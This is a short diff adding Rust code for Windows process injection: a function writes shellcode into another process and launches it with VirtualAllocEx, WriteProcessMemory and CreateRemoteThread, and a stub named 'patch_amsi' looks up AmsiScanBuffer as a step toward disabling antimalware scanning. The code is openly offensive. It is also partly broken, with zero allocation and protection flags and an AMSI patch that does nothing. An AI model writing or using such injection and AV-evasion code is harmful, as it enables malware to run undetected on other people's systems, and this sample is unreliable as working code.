@@ -0,0 +1,14 @@
+fn inject(process_handle: isize, shellcode: &[u8]) {
+    unsafe {
+        let addr = VirtualAllocEx(process_handle, std::ptr::null_mut(), shellcode.len(), 0, 0);
+        WriteProcessMemory(process_handle, addr, shellcode.as_ptr(), shellcode.len(), std::ptr::null_mut());
+        CreateRemoteThread(process_handle, std::ptr::null_mut(), 0, addr, std::ptr::null_mut(), 0, std::ptr::null_mut());
+    }
+}
+
+fn patch_amsi(dll: isize) {
+    unsafe {
+        let amsi_addr = GetProcAddress(dll, "AmsiScanBuffer");
+        let _ = amsi_addr;
+    }
+}